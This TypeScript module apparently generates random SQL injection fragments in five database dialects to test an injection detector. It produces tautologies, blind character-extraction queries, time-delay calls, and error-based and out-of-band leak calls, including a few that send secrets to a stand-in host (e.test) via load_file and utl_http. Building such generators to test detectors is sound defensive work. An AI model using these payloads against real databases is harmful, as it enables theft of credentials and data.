// Expressions of five dialects, written from their manuals. Nothing here knows the detector.
import type { Random } from './random.ts';

export type Dialect = 'mysql' | 'postgresql' | 'sqlite' | 'mssql' | 'oracle';
export const DIALECTS: readonly Dialect[] = ['mysql', 'postgresql', 'sqlite', 'mssql', 'oracle'];

const TABLES = ['users', 'accounts', 'orders', 'members', 'admin', 'customer_card', 'app.sessions', 'tbl_staff'];
const COLUMNS = ['id', 'name', 'password', 'email', 'card_no', 'u.login', 'secret', 'pwd_hash'];

export class Terms {
  readonly #random: Random;
  readonly dialect: Dialect;

  constructor(random: Random, dialect: Dialect) {
    this.#random = random;
    this.dialect = dialect;
  }

  number(): string {
    const random = this.#random;
    const whole = random.whole(0, 9999);
    return random.oneOf(
      () => `${random.whole(0, 9)}`,
      () => `${whole}`,
      () => `${whole}`,
      () => `-${whole}`,
      () => `${whole}.${random.whole(0, 9)}`,
      () => (this.dialect === 'mysql' || this.dialect === 'sqlite' ? `0x${whole.toString(16)}` : `${whole}`),
      () => `${random.whole(1, 9)}e${random.whole(0, 3)}`,
    );
  }

  /** A constant text in one of the forms that the dialect has. */
  text(content = this.#random.pick(['a', 'x', 'adm', '~', 'qwe', '1', 'no one'])): string {
    const random = this.#random;
    const codes = Array.from(content, (letter) => letter.charCodeAt(0));
    const hex = codes.map((code) => code.toString(16)).join('');
    const plain = `'${content}'`;
    switch (this.dialect) {
      case 'mysql':
        return random.pick([
          plain,
          plain,
          `"${content}"`,
          `0x${hex}`,
          `char(${codes.join(',')})`,
          `x'${hex}'`,
          `_utf8'${content}'`,
        ]);
      case 'postgresql':
        return random.pick([
          plain,
          plain,
          codes.map((code) => `chr(${code})`).join('||'),
          `$$${content}$$`,
          `$t$${content}$t$`,
          `E'${content}'`,
        ]);
      case 'sqlite':
        return random.pick([plain, plain, `char(${codes.join(',')})`, `x'${hex}'`]);
      case 'mssql':
        return random.pick([plain, plain, `N'${content}'`, codes.map((code) => `char(${code})`).join('+')]);
      case 'oracle':
        return random.pick([
          plain,
          plain,
          codes.map((code) => `chr(${code})`).join('||'),
          `q'[${content}]'`,
          `q'{${content}}'`,
        ]);
    }
  }

  table(): string {
    return this.#quotedName(this.#random.pick(TABLES));
  }

  column(): string {
    return this.#quotedName(this.#random.pick(COLUMNS));
  }

  #quotedName(name: string): string {
    if (!this.#random.chance(0.15)) return name;
    const quote = (part: string): string => {
      if (this.dialect === 'mysql') return `\`${part}\``;
      return this.dialect === 'mssql' || this.dialect === 'sqlite' ? `[${part}]` : `"${part}"`;
    };
    return name.split('.').map(quote).join('.');
  }

  /** Something that says where one is. */
  fact(): string {
    const facts: Record<Dialect, readonly string[]> = {
      mysql: [
        'version()',
        '@@version',
        'user()',
        'database()',
        'current_user()',
        '@@datadir',
        'schema()',
        '@@hostname',
      ],
      postgresql: [
        'version()',
        'current_user',
        'current_database()',
        "current_setting('data_directory')",
        'session_user',
      ],
      sqlite: ['sqlite_version()', 'hex(randomblob(8))', '(select sql from sqlite_master limit 1)'],
      mssql: ['@@version', 'user_name()', 'db_name()', 'system_user', '@@servername', 'host_name()', 'suser_sname()'],
      oracle: [
        '(select banner from v$version where rownum=1)',
        'user',
        "sys_context('userenv','db_name')",
        'ora_database_name',
      ],
    };
    return this.#random.pick(facts[this.dialect]);
  }

  query(): string {
    const random = this.#random;
    const item = random.oneOf(
      () => this.column(),
      () => this.column(),
      () => `count(*)`,
      () => this.fact(),
      () => `max(${this.column()})`,
    );
    const where = random.chance(0.4)
      ? ` where ${this.column()}=${random.oneOf(
          () => this.number(),
          () => this.text(),
        )}`
      : '';
    switch (this.dialect) {
      case 'mssql':
        return `select top ${random.whole(1, 3)} ${item} from ${random.pick([this.table(), this.table(), 'information_schema.tables', 'sysobjects', 'master..sysdatabases'])}${where}`;
      case 'oracle':
        return `select ${item} from ${random.pick([this.table(), this.table(), 'dual', 'all_tables', 'user_tab_columns'])} where rownum=1`;
      case 'sqlite':
        return `select ${item} from ${random.pick([this.table(), this.table(), 'sqlite_master'])}${where} limit 1`;
      default:
        return `select ${item} from ${random.pick([this.table(), this.table(), 'information_schema.tables', 'information_schema.columns'])}${where} limit ${random.whole(0, 5)}${random.chance(0.3) ? ' offset 1' : ''}`.replace(
          ' limit 0',
          ' limit 1',
        );
    }
  }

  /** A letter of a secret, as a number or as text. */
  letter(): string {
    const random = this.#random;
    const source = random.oneOf(
      () => `(${this.query()})`,
      () => this.fact(),
    );
    const place = random.whole(1, 30);
    const cut: Record<Dialect, readonly string[]> = {
      mysql: [
        `substring(${source},${place},1)`,
        `mid(${source},${place},1)`,
        `substr(${source} from ${place} for 1)`,
        `right(left(${source},${place}),1)`,
      ],
      postgresql: [
        `substring(${source},${place},1)`,
        `substr(${source}::text,${place},1)`,
        `substring(${source} from ${place} for 1)`,
      ],
      sqlite: [`substr(${source},${place},1)`],
      mssql: [`substring(${source},${place},1)`, `right(left(${source},${place}),1)`],
      oracle: [`substr(${source},${place},1)`],
    };
    const one = random.pick(cut[this.dialect]);
    const coded = {
      mysql: ['ascii', 'ord', 'hex'],
      postgresql: ['ascii'],
      sqlite: ['unicode', 'hex'],
      mssql: ['ascii', 'unicode'],
      oracle: ['ascii'],
    } as const;
    const name = random.pick<string>(coded[this.dialect]);
    return random.chance(0.7) ? `${name}(${one})` : one;
  }

  comparison(): string {
    const random = this.#random;
    return random.oneOf(
      () => this.#tautology(),
      () => this.#tautology(),
      () =>
        `${this.letter()}${random.pick(['=', '>', '<', '!=', ' in '])}`.replace(/ in $/, ' between 1 and ') +
        random.whole(32, 127),
      () => `exists(${this.query()})`,
      () =>
        `(${this.query()})${random.pick(['=', '>', '<>', ' like '])}${random.oneOf(
          () => this.text(),
          () => this.number(),
        )}`,
      () =>
        `length(${this.fact()})>${random.whole(1, 20)}`.replace('length', this.dialect === 'mssql' ? 'len' : 'length'),
      () => `${this.number()} in (${random.times(1, 3, () => this.number()).join(',')})`,
      () => `not ${this.number()}=${this.number()}`,
    );
  }

  #tautology(): string {
    const random = this.#random;
    const number = this.number();
    const text = random.pick(['a', 'x', 'zz', '1']);
    return random.oneOf(
      () => `${number}=${number}`,
      () => `${number}=${number}`,
      () => `${random.whole(2, 9)}>${random.whole(0, 1)}`,
      () => `'${text}'='${text}'`,
      () => `${this.text(text)}=${this.text(text)}`,
      () => `${this.text(text)} like ${this.text(text)}`,
      () => `(${number})=(${number})`,
      () => `${number} between ${random.whole(-9, 0)} and 9999`,
      () => `${number} is not null`,
      () => `${random.whole(1, 5)}+${random.whole(1, 5)}<${random.whole(11, 20)}`,
      () =>
        this.dialect === 'mysql'
          ? `${number} ${random.pick(['rlike', 'regexp', '<=>'])} ${number}`
          : `${number}<>${number}9`,
      () =>
        this.dialect === 'mysql' || this.dialect === 'postgresql' || this.dialect === 'sqlite'
          ? random.pick(['true', 'not false', 'true is true'])
          : `${number}>=${number}`,
    );
  }

  /** A call that takes time. */
  delay(): string {
    const random = this.#random;
    const seconds = random.whole(2, 20);
    const calls: Record<Dialect, readonly string[]> = {
      mysql: [
        `sleep(${seconds})`,
        `benchmark(${seconds}000000,md5(1))`,
        `(select sleep(${seconds}))`,
        `(select*from(select(sleep(${seconds})))a)`,
        `if(${this.#tautology()},sleep(${seconds}),0)`,
      ],
      postgresql: [
        `(select 1 from pg_sleep(${seconds}))`,
        `(select pg_sleep(${seconds})::text)`,
        `(case when ${this.#tautology()} then (select 1 from pg_sleep(${seconds})) else 1 end)`,
      ],
      sqlite: [
        `randomblob(${seconds}00000000)`,
        `like('ABCDEFG',upper(hex(randomblob(${seconds}00000000/2))))`,
        `(select count(*) from sqlite_master a, sqlite_master b, sqlite_master c)`,
      ],
      mssql: [`(select count(*) from sysusers as a, sysusers as b, sysusers as c)`],
      oracle: [
        `dbms_pipe.receive_message('${random.pick(['a', 'rds'])}',${seconds})`,
        `(select count(*) from all_users t1, all_users t2, all_users t3)`,
      ],
    };
    return random.pick(calls[this.dialect]);
  }

  /** A call that carries data out in its error or over the network. */
  leak(): string {
    const random = this.#random;
    const secret = random.oneOf(
      () => this.fact(),
      () => `(${this.query()})`,
    );
    const calls: Record<Dialect, readonly string[]> = {
      mysql: [
        `extractvalue(1,concat(0x7e,${secret}))`,
        `updatexml(1,concat(0x7e,${secret},0x7e),1)`,
        `exp(~(select*from(select ${secret})x))`,
        `gtid_subset(${secret},1)`,
        `(select 1 from(select count(*),concat(${secret},floor(rand(0)*2))x from information_schema.tables group by x)a)`,
        `load_file(concat('\\\\\\\\',${secret},'.e.test\\\\a'))`,
      ],
      postgresql: [
        `cast(${secret} as int)`,
        `(${secret})::int`,
        `1/(case when ${this.#tautology()} then 0 else 1 end)`,
      ],
      sqlite: [`load_extension(${secret})`, `abs(${secret}||-9223372036854775808)`],
      mssql: [
        `convert(int,${secret})`,
        `cast(${secret} as int)`,
        `1/(case when ${this.#tautology()} then 0 else 1 end)`,
      ],
      oracle: [
        `utl_inaddr.get_host_address(${secret})`,
        `ctxsys.drithsx.sn(1,${secret})`,
        `utl_http.request('http://e.test/'||${secret})`,
        `to_number(${secret})`,
        `extractvalue(xmltype('<x/>'),'/'||${secret})`,
      ],
    };
    return random.pick(calls[this.dialect]);
  }
}
